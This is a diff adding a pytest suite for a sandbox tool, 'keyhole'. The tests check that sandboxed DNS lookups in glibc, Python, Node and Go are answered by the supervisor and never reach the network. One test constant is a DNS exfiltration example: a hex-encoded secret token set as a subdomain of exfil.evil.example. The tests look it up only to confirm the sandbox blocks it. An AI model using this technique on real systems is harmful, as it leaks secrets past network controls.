@@ -1,0 +1,235 @@
+"""The child's DNS is answered by the supervisor (SPEC 3.1).
+
+All runs happen in one private network and mount namespace
+(dns_world.py): a fake upstream DNS server at the nameservers of the
+bind-mounted resolv.conf (10.53.0.1, not on loopback, then 127.0.0.53)
+counts every query by name.  keyhole asks it for the names it grants; the
+sandboxed resolvers (glibc, Python, Node's c-ares, Go's pure resolver) get
+their answers from the supervisor, from the address they asked, and the
+fake server never sees one of their queries.
+"""
+
+import json
+import os
+import shutil
+import subprocess
+
+import pytest
+
+from conftest import free_port_number
+from run_fixtures import Box, assert_no_sanitizer, Result
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+WORLD = os.path.join(HERE, "dns_world.py")
+PY = "/usr/bin/python3"
+EXFIL = "6b6579686f6c652d7365637265742d746f6b656e2d31323334.a" \
+    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.exfil.evil.example"
+MANY = 40
+
+
+def netns_ok():
+	try:
+		return subprocess.run(["unshare", "--net", "--mount", "--",
+		    "ip", "link", "set", "lo", "up"], capture_output=True,
+		    timeout=10).returncode == 0
+	except (OSError, subprocess.TimeoutExpired):
+		return False
+
+
+pytestmark = pytest.mark.skipif(not netns_ok(),
+    reason="needs root: unshare --net --mount and ip(8)")
+
+PYLOOKUP = r'''
+import socket, sys, time
+name = sys.argv[1]
+t0 = time.monotonic()
+try:
+	r = socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)
+	print("OK", " ".join(sorted({a[4][0] for a in r})))
+except socket.gaierror as e:
+	print("ERR", e.errno)
+print("ms %.1f" % ((time.monotonic() - t0) * 1000))
+'''
+
+PYCONNECT = r'''
+import socket, sys
+s = socket.create_connection(("db.test", int(sys.argv[1])), timeout=5)
+print(s.recv(64).decode().strip())
+'''
+
+NODE = r'''
+const dns = require("dns");
+dns.lookup("db.test", {all: true}, (err, addrs) => {
+	console.log("lookup", err ? err.code : addrs.map(a => a.address).join(","));
+	dns.resolve4("db.test", (err2, a2) => {
+		console.log("resolve4", err2 ? err2.code : a2.join(","));
+		dns.resolve4("nope.example", (err3) => {
+			console.log("nope", err3 ? err3.code : "answered");
+		});
+	});
+});
+'''
+
+GO = r'''
+package main
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"strings"
+)
+
+func main() {
+	r := &net.Resolver{PreferGo: true}
+	a, err := r.LookupHost(context.Background(), "db.test")
+	if err != nil {
+		fmt.Println("ERR", err)
+	} else {
+		fmt.Println("OK", strings.Join(a, ","))
+	}
+	_, err = r.LookupHost(context.Background(), "nope.example")
+	fmt.Println("nope", err != nil)
+}
+'''
+
+
+def build_go(d):
+	if shutil.which("go") is None:
+		return None
+	src = os.path.join(d, "lookup.go")
+	with open(src, "w") as f:
+		f.write(GO)
+	env = dict(os.environ, CGO_ENABLED="0", GOFLAGS="-mod=mod",
+	    GOPROXY="off", GOCACHE=os.path.join(d, "gocache"),
+	    GOPATH=os.path.join(d, "gopath"), HOME=d)
+	out = os.path.join(d, "golookup")
+	p = subprocess.run(["go", "build", "-o", out, src], env=env,
+	    capture_output=True, timeout=240, cwd=d)
+	assert p.returncode == 0, p
+	return out
+
+
+@pytest.fixture(scope="module")
+def world(keyhole):
+	box = Box(keyhole)
+	port = free_port_number()
+	audit = box.path("audit.log")
+	for name, text in (("lookup.py", PYLOOKUP), ("connect.py", PYCONNECT),
+	    ("dns.js", NODE)):
+		box.write(os.path.join(box.granted, name), text)
+	gobin = build_go(box.granted)
+	grants = ["--allow-domain", "db.test:%d" % port,
+	    "--allow-domain", "many.test:%d" % port]
+	for i in range(MANY):
+		grants += ["--resolve", "many.test:%d:10.77.1.%d" % (port, i + 1)]
+	proxy = [keyhole, "run", "--allow-cwd", "--audit-log", audit] + \
+	    grants + ["--"]
+	blocked = [keyhole, "run", "--allow-cwd", "--block-net", "--"]
+	runs = {
+		"getent": proxy + ["getent", "hosts", "db.test"],
+		"getent_exfil": proxy + ["getent", "hosts", EXFIL],
+		"python": proxy + [PY, "lookup.py", "db.test"],
+		"python_exfil": proxy + [PY, "lookup.py", EXFIL],
+		"connect": proxy + [PY, "connect.py", str(port)],
+		"node": proxy + ["node", "dns.js"],
+		"many": proxy + ["getent", "ahostsv4", "many.test"],
+		"localhost": proxy + [PY, "lookup.py", "localhost"],
+		"blocked": blocked + [PY, "lookup.py", "db.test"],
+		"blocked_hosts": blocked + [PY, "lookup.py", "localhost"],
+	}
+	if gobin is not None:
+		runs["go"] = proxy + [gobin]
+	env = box.env()
+	cfg = {"dir": box.granted, "listeners": [["10.77.0.7", port]],
+	    "runs": [{"argv": v, "env": env} for v in runs.values()]}
+	cfgpath = box.write(box.path("world.json"), json.dumps(cfg))
+	p = subprocess.run(["unshare", "--net", "--mount", "--", PY, WORLD,
+	    cfgpath], capture_output=True, timeout=300)
+	assert p.returncode == 0, p
+	rep = json.loads(p.stdout.decode().strip().splitlines()[-1])
+	out = {}
+	for (name, argv), r in zip(runs.items(), rep["runs"]):
+		res = Result(argv, r["rc"], r["stdout"], r["stderr"], r["secs"])
+		assert_no_sanitizer(res)
+		out[name] = res
+	assert os.path.exists(audit), {k: (v.rc, v.out, v.err) for k, v in out.items()}
+	with open(audit) as f:
+		audit_lines = [json.loads(l) for l in f if l.strip()]
+	yield {"runs": out, "seen": rep["seen"], "accepted": rep["accepted"],
+	    "audit": audit_lines, "go": gobin is not None}
+	box.close()
+
+
+def test_glibc_getent_gets_the_pinned_address(world):
+	r = world["runs"]["getent"]
+	assert r.rc == 0, r
+	assert r.out.split() == ["10.77.0.7", "db.test"], r
+
+
+def test_python_getaddrinfo_gets_only_the_pinned_address(world):
+	r = world["runs"]["python"]
+	assert r.out.splitlines()[0] == "OK 10.77.0.7", r
+
+
+def test_tcp_client_connects_by_name_to_the_granted_listener(world):
+	r = world["runs"]["connect"]
+	assert r.rc == 0 and r.out.strip() == "hello", r
+	assert world["accepted"] == [1]
+
+
+def test_node_lookup_and_resolve4_are_answered(world):
+	r = world["runs"]["node"]
+	lines = r.out.splitlines()
+	assert "lookup 10.77.0.7" in lines, r
+	assert "resolve4 10.77.0.7" in lines, r
+	assert "nope ENOTFOUND" in lines, r
+
+
+def test_go_pure_resolver_is_answered(world):
+	if not world["go"]:
+		pytest.skip("go is not installed")
+	r = world["runs"]["go"]
+	assert r.out.splitlines() == ["OK 10.77.0.7", "nope true"], r
+
+
+def test_ungranted_name_is_nxdomain_at_once_and_never_leaves(world):
+	r = world["runs"]["python_exfil"]
+	lines = r.out.splitlines()
+	assert lines[0] == "ERR -2", r		# EAI_NONAME: NXDOMAIN, not AGAIN
+	assert float(lines[1].split()[1]) < 100, r
+	g = world["runs"]["getent_exfil"]
+	assert g.rc == 2 and g.out == "", g
+	assert not any("exfil" in n for n in world["seen"]), world["seen"]
+	assert not any("nope" in n for n in world["seen"]), world["seen"]
+	denied = [a for a in world["audit"] if a.get("mode") == "dns"]
+	assert denied and all(a.get("decision") == "deny" for a in denied)
+	assert any(a.get("host") == EXFIL for a in denied), denied
+
+
+def test_child_queries_never_reach_the_upstream(world):
+	# The supervisor asks for what it grants; the child asked for
+	# db.test many times and localhost, and none of it went upstream
+	# beyond keyhole's own look-ups (at most a few per run).
+	assert set(world["seen"]) <= {"db.test"}, world["seen"]
+
+
+def test_large_answer_is_retried_over_tcp(world):
+	r = world["runs"]["many"]
+	assert r.rc == 0, r
+	addrs = {l.split()[0] for l in r.out.splitlines()}
+	assert addrs == {"10.77.1.%d" % (i + 1) for i in range(MANY)}, r
+
+
+def test_localhost_resolves_to_loopback(world):
+	r = world["runs"]["localhost"]
+	assert r.out.splitlines()[0].startswith("OK 127.0.0.1"), r
+
+
+def test_blocked_mode_lookup_fails_at_once_but_hosts_names_resolve(world):
+	r = world["runs"]["blocked"]
+	lines = r.out.splitlines()
+	assert lines[0].startswith("ERR"), r
+	assert float(lines[1].split()[1]) < 1000, r
+	h = world["runs"]["blocked_hosts"]
+	assert h.out.splitlines()[0].startswith("OK 127.0.0.1"), h
